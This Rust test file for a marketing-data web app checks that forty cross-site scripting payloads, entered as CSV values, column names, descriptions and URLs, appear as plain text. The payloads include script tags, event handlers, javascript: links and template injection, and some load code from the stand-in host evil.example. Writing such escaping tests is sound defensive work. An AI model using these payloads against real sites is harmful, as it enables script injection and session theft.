//! Names and values that would be script if any page took them for more than text.
//!
//! Knows nothing of how pages are protected: a script that runs opens a dialog, and one that is stopped by the policy is
//! heard of too. Both fail the journey.

use std::collections::BTreeMap;

use pardot_sim::{Config, Knobs};
use serde_json::json;

use crate::browser::access::sign_in;
use crate::browser::page::{Browser, Wish, journey};
use crate::harness::Bench;
use crate::server::House;

/// Each would run where text is put into a page as it is: into a body, an attribute, a script, an address, a style.
const HOSTILE: [&str; 40] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/4.js')</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    "<img src=x onerror=alert(6)>",
    "<img src=//evil.example/7.png>",
    "<svg onload=alert(8)>",
    "<svg><script>alert(9)</script></svg>",
    "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
    "<body onload=alert(11)>",
    "<iframe srcdoc='<script>parent.alert(12)</script>'></iframe>",
    "<iframe src=javascript:alert(13)></iframe>",
    "<object data=javascript:alert(14)></object>",
    "<embed src=//evil.example/15.swf>",
    "<input autofocus onfocus=alert(16)>",
    "<details open ontoggle=alert(17)>",
    "<video><source onerror=alert(18)></video>",
    "<a href=javascript:alert(19)>19</a>",
    "<a href=\"java&#x09;script:alert(20)\">20</a>",
    "<form action=javascript:alert(21)><button>21</button></form>",
    "<button formaction=javascript:alert(22)>22</button>",
    "<base href=//evil.example/23/>",
    "<link rel=stylesheet href=//evil.example/24.css>",
    "<style>@import '//evil.example/25.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/26'>",
    "<math><mtext></mtext><script>alert(27)</script></math>",
    "<template shadowrootmode=open><img src=x onerror=alert(28)></template>",
    "<div hx-get=/jobs hx-trigger=load hx-swap=none onclick=alert(29)>29</div>",
    "<div hx-on:load=alert(30) data-hx-on--load=alert(30)>30</div>",
    "\"><script>alert(31)</script>",
    "' onmouseover='alert(32)' autofocus onfocus='alert(32)",
    "\" onfocus=\"alert(33)\" autofocus=\"",
    "</textarea><script>alert(34)</script>",
    "</title><script>alert(35)</script>",
    "--><script>alert(36)</script>",
    "]]><script>alert(37)</script>",
    "{{constructor.constructor('alert(38)')()}}",
    "${alert(39)}",
    "javascript:alert(40)",
];

/// A value as a field of a CSV file.
fn cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Every one of them stands on the page as it is: what a browser made an element of would have no such text.
#[track_caller]
fn check_shown(browser: &Browser, texts: &[&str]) {
    for text in texts {
        browser.shows(text);
    }
}

#[test]
fn hostile_row_values_are_text() {
    // Pardot's own words are as hostile as the rows.
    const SAID: &str = "<img src=x onerror=alert(42)><script>alert(43)</script>";
    let knobs = Knobs { record_messages: BTreeMap::from([(4, SAID.into())]), ..Knobs::default() };
    let house = House::start(Bench::with(Config { knobs, ..Config::default() }));
    // No email is one, so that every row is rejected and shown; 50 rows a page are more than 40.
    let rows =
        HOSTILE.iter().enumerate().map(|(row, text)| format!("{},{}\n", cell(&format!("{row}{text}")), cell(text)));
    house.upload("c", &format!("email,first_name\n{}", rows.collect::<String>()));
    house.query("q", &[("skip_invalid_records", "true")]);
    journey("hostile-values", &house, Wish::default(), |browser| {
        sign_in(browser);
        browser.go("/tables/c");
        browser.reads("first_name");
        browser.go("/queries/q");
        browser.press("Preview");
        check_shown(browser, &HOSTILE);
        browser.look("preview");
        browser.press("Run");
        let job = browser.arrives("/jobs/");
        browser.reads("40 read = 0 delivered + 40 rejected");
        // A job shows the first of each reason.
        check_shown(browser, &HOSTILE[..10]);
        check_shown(browser, &[SAID]);
        browser.look("job");
        let job = job.split(['/', '?']).nth(2).expect("an id").to_owned();
        browser.go(&format!("/jobs/{job}/rejected"));
        browser.look("rejected");
        browser.go(&format!("/jobs/{job}/log"));
    });
}

/// What may be called or described by anything is: columns, descriptions, the values of a rule.
fn described(house: &House) {
    let header: String = HOSTILE.iter().map(|text| format!(",{}", cell(text))).collect();
    let row: String = HOSTILE.iter().map(|text| format!(",{}", cell(text))).collect();
    house.upload("h", &format!("email{header}\nada@example.com{row}\n"));
    let all = HOSTILE.join("\n");
    let query = json!({
        "name": "q", "description": all, "sql": "SELECT * FROM h",
        "export": {"connection": "prod", "settings": {}},
    });
    house.send("POST", "/queries", &query).must(201);
    let parent = json!({"name": "people", "description": all, "master": {"table": "h", "key": "email"}});
    house.send("POST", "/parent-segments", &parent).must(201);
    let refresh = house.send("POST", "/parent-segments/people/refresh", &json!({})).must(202);
    house.ended(refresh["id"].as_str().expect("an id"));
    let rule = json!({"type": "And", "conditions": [{"type": "And", "conditions": [{
        "type": "Value", "leftValue": {"name": "email"},
        "operator": {"type": "In", "not": false, "rightValues": HOSTILE.as_slice()},
    }]}]});
    let segment = json!({"name": "s", "description": all, "parent_segment": "people", "rule": rule});
    house.send("POST", "/segments", &segment).must(201);
}

#[test]
fn hostile_columns_descriptions_and_names_are_text() {
    let house = House::start(Bench::unique());
    described(&house);
    journey("hostile-names", &house, Wish::default(), |browser| {
        sign_in(browser);
        let pages = [
            "/tables/h",
            "/queries/q",
            "/queries/q/export",
            "/parent-segments/people",
            "/parent-segments/people/profiles",
            "/segments/s",
            "/new/segment?of=people",
        ];
        for (number, page) in pages.iter().enumerate() {
            browser.go(page);
            check_shown(browser, &HOSTILE);
            if number % 2 == 0 {
                browser.look(&format!("page-{number}"));
            }
        }
        for page in ["/queries", "/parent-segments", "/schedules", "/"] {
            browser.go(page);
        }
        typed(browser);
        in_addresses(browser);
    });
}

/// Names that are refused stand in their field as they were typed.
fn typed(browser: &Browser) {
    let forms = [("/new/query", "Save"), ("/new/connection", "Done"), ("/new/parent-segment", "Create parent segment")];
    // Those that would break out of where a typed name is put back: an attribute, a text.
    for (number, text) in HOSTILE.iter().skip(1).step_by(3).enumerate() {
        let (form, press) = forms[number % forms.len()];
        browser.go(form);
        browser.fill("Name", text);
        browser.unchecked(press);
        browser.alarms("name");
        assert_eq!(browser.value("Name"), *text, "{form}");
    }
}

/// An address is somebody else's text too.
fn in_addresses(browser: &Browser) {
    let text = "%22%3E%3Cscript%3Ealert(41)%3C%2Fscript%3E";
    for path in ["/queries/", "/jobs/", "/tables/", "/segments/", "/connections/", "/activations/"] {
        browser.misses(&format!("{path}{text}"));
    }
    for path in ["/sign-in?next=", "/queries?name=", "/schedules?done="] {
        browser.go(&format!("{path}{text}"));
    }
    browser.forgives(&format!("/jobs?query={text}"));
    browser.reads("there is no query");
}
